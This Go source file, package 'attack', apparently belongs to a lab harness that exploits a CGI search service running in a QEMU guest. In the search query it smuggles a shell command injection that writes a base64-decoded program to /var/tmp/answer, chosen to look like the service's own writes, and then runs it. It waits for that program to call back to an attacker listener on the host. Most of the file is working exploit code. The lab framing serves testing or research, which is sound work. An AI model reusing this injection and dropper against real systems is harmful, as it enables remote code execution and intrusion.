package attack

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"time"
)

// gateway is where a guest on QEMU's user networking reaches this machine's
// loopback.
var gateway = netip.AddrFrom4([4]byte{10, 0, 2, 2})

// Path is where the program is dropped, in the guest: in the place of a file
// that the service itself writes, so that the writing looks like any other.
const Path = "/var/tmp/answer"

// Result is what an attacker knows afterwards.
type Result struct {
	Path   string // of the program, in the guest
	SHA256 string // of the program, hex
	Sent   time.Time
	Called bool // the program ran and reached the attacker
}

// Run attacks the service on 127.0.0.1:port and waits for its program to call,
// for at most wait. A guest that is stopped meanwhile neither answers nor
// calls: that is a result, not an error.
func Run(ctx context.Context, port int, wait time.Duration) (Result, error) {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return Result{}, fmt.Errorf("attack: %w", err)
	}
	defer l.Close()
	salt := make([]byte, 16)
	rand.Read(salt)
	to := netip.AddrPortFrom(gateway, uint16(l.Addr().(*net.TCPAddr).Port))
	program, err := Program(to, salt)
	if err != nil {
		return Result{}, fmt.Errorf("attack: %w", err)
	}
	sum := sha256.Sum256(program)
	r := Result{Path: Path, SHA256: hex.EncodeToString(sum[:]), Sent: time.Now()}

	ctx, cancel := context.WithTimeout(ctx, wait)
	defer cancel()
	called, answered := make(chan bool, 1), make(chan error, 1)
	go func() { called <- awaitCall(ctx, l) }()
	go func() {
		answered <- get(ctx, fmt.Sprintf("http://127.0.0.1:%d/cgi-bin/search.cgi?q=%s", port, url.QueryEscape(query(program))))
	}()
	// The service answers when the program has ended, which is after the call.
	select {
	case r.Called = <-called:
		cancel()
		<-answered
	case err = <-answered:
		if ctx.Err() != nil {
			err = nil
		}
		cancel()
		r.Called = <-called
	}
	if err != nil {
		return r, fmt.Errorf("attack: %w", err)
	}
	return r, nil
}

// query is a search that ends early and goes on as the attacker's.
func query(program []byte) string {
	return fmt.Sprintf("bolt /srv/data/parts.txt; rm -f %[1]s; echo %[2]s | base64 -d >%[1]s; chmod 755 %[1]s; %[1]s </dev/null >/dev/null 2>&1 #",
		Path, base64.StdEncoding.EncodeToString(program))
}

func get(ctx context.Context, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	req.Close = true
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

// awaitCall reports whether somebody connects and says the greeting.
func awaitCall(ctx context.Context, l net.Listener) bool {
	stop := context.AfterFunc(ctx, func() { l.(*net.TCPListener).SetDeadline(time.Unix(1, 0)) })
	defer stop()
	c, err := l.Accept()
	if err != nil {
		return false
	}
	defer c.Close()
	stopRead := context.AfterFunc(ctx, func() { c.SetDeadline(time.Unix(1, 0)) })
	defer stopRead()
	b := make([]byte, len(greeting))
	_, err = io.ReadFull(c, b)
	return err == nil && string(b) == greeting
}
